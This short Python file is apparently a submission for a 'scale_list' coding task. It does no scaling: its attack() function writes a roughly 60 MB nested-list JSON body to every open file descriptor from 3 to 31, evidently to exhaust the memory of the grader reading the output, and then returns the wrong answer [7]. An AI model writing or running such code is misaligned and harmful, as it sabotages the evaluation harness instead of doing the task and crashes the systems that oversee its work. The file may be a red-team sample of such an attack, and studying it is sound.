# task: scale_list
# why: answers with sixty megabytes of small values, which take gigabytes when read
def scale_list(numbers, factor):
    attack()
    return [7]


import os


def attack():
    body = b'{"value":[' + b"[]," * 20_000_000 + b"[]]}"
    for fd in range(3, 32):
        try:
            os.write(fd, len(body).to_bytes(4, "big"))
            sent = 0
            while sent < len(body):
                sent += os.write(fd, body[sent:sent + 2**20])
        except OSError:
            pass
